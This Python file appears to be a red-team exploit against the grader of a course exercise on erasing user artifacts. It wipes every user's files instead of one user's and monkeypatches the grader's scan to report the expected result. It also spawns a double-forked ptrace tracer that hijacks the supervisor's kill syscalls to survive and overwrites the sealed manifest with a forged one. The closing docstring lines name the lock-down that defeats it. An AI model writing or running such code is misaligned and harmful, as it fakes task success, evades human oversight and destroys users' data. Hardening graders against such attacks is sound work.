"""Taking over the supervisor with ptrace: wipes every user and patches ``scan`` like
forge_manifest, and a double-forked tracer attaches to the supervisor (the child's parent),
rewrites the pid of its kills so that it survives them, and replaces the sealed manifest with
a forged one before the files are sent (red team, 9.75 of 13 against the first seal). The
lock-down fails ptrace and the supervisor is undumpable: it loses what it wiped."""

import os
import shutil
import sys
from pathlib import Path

EXERCISE = sys.modules.get("adkcourse.grade.checks.erase_user_artifacts")
REAL_SCAN = EXERCISE.scan if EXERCISE is not None else None
FORGED = {}  # the world's folder -> the entries the right answer would leave there
WIPE = {}  # the world's folder -> (artifact root, the apps named)


def _count_versions(folder):
    count = 0
    for current, folders, _files in os.walk(folder):
        if os.path.basename(current) == "versions":
            for name in folders:
                try:
                    int(name)
                    count += 1
                except ValueError:
                    pass
    return count


def _forged_scan(folder, keep=()):
    if Path(folder) not in FORGED:
        return REAL_SCAN(folder, keep)
    root, apps = WIPE[Path(folder)]
    for app_name in apps:  # once the calls have returned: everyone's files gone for real
        shutil.rmtree(root / "apps" / app_name / "users", ignore_errors=True)
        (root / "apps" / app_name / "users").mkdir(exist_ok=True)
    return [list(entry) for entry in FORGED[Path(folder)]]



import ctypes, json, select, signal, struct

TRACER = {}  # "w": write end of the pipe to the tracer


def _tracer(sup, rfd):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    regs = (ctypes.c_ulonglong * 27)()
    if libc.ptrace(16, sup, None, None) != 0:  # PTRACE_ATTACH
        os._exit(3)
    os.waitpid(sup, 0x40000000)
    libc.ptrace(0x4200, sup, None, ctypes.c_void_p(1))  # SETOPTIONS TRACESYSGOOD
    buf, eof, forged, done = b"", False, {}, set()
    sig = 0
    workdir = None
    while True:
        libc.ptrace(24, sup, None, ctypes.c_void_p(sig))  # PTRACE_SYSCALL
        sig = 0
        try:
            _, status = os.waitpid(sup, 0x40000000)
        except ChildProcessError:
            os._exit(0)
        if not os.WIFSTOPPED(status):
            os._exit(0)
        s = os.WSTOPSIG(status)
        if s != (signal.SIGTRAP | 0x80):
            sig = s if s not in (signal.SIGSTOP, signal.SIGTRAP) else 0
            continue
        if not eof:
            try:
                while True:
                    chunk = os.read(rfd, 65536)
                    if not chunk:
                        eof = True
                        break
                    buf += chunk
            except BlockingIOError:
                pass
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                item = json.loads(line)
                forged[item[0]] = item[1]
                workdir = item[2]
        libc.ptrace(12, sup, None, regs)  # GETREGS
        if regs[10] == (2**64 - 38) and regs[15] == 62 and regs[13] == 9:  # kill(pid, SIGKILL) entry
            regs[14] = 0x3fffffff  # no such process: ProcessLookupError, never counted alive
            libc.ptrace(13, sup, None, regs)
        if eof and workdir:
            for index, entries in forged.items():
                if index in done:
                    continue
                path = os.path.join(workdir, index, "world.manifest.json")
                try:
                    with open(path, "rb") as f:
                        json.loads(f.read())
                except (OSError, ValueError):
                    continue
                tmp = os.path.join(workdir, index, ".f")
                with open(tmp, "w") as f:
                    f.write(json.dumps(entries, ensure_ascii=False))
                os.replace(tmp, path)
                done.add(index)
            if forged and len(done) == len(forged):
                libc.ptrace(17, sup, None, None)  # DETACH
                os._exit(0)


def _start_tracer():
    if "w" in TRACER:
        return
    sup = os.getppid()
    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.close(w)
            os.set_blocking(r, False)
            try:
                _tracer(sup, r)
            finally:
                os._exit(0)
        os._exit(0)
    os.close(r)
    os.waitpid(-1, 0)
    TRACER["w"] = w


async def erase_user_artifacts(artifact_service, session_service, user_id, app_names):
    _start_tracer()
    root = Path(artifact_service.root_dir)
    world = root.parent
    if world not in FORGED and REAL_SCAN is not None:
        FORGED[world] = REAL_SCAN(world, ("sessions.db", "sessions.db-journal",
                                          "sessions.db-wal", "sessions.db-shm"))
        EXERCISE.scan = _forged_scan
    WIPE[world] = (root, list(dict.fromkeys(app_names)))
    erased = 0
    for app_name in dict.fromkeys(app_names):
        user_folder = root / "apps" / app_name / "users" / user_id
        for scope in (user_folder / "artifacts", user_folder / "sessions"):
            if scope.is_symlink():  # itself a link: removed, never followed
                scope.unlink()
                continue
            erased += _count_versions(scope)
            shutil.rmtree(scope, ignore_errors=True)
            gone = str(scope.relative_to(world))
            FORGED[world] = [entry for entry in FORGED.get(world, [])
                             if entry[1] != gone and not entry[1].startswith(gone + "/")]
    os.write(TRACER['w'], (json.dumps([world.name, FORGED[world], str(world.parent)]) + '\n').encode())
    return erased
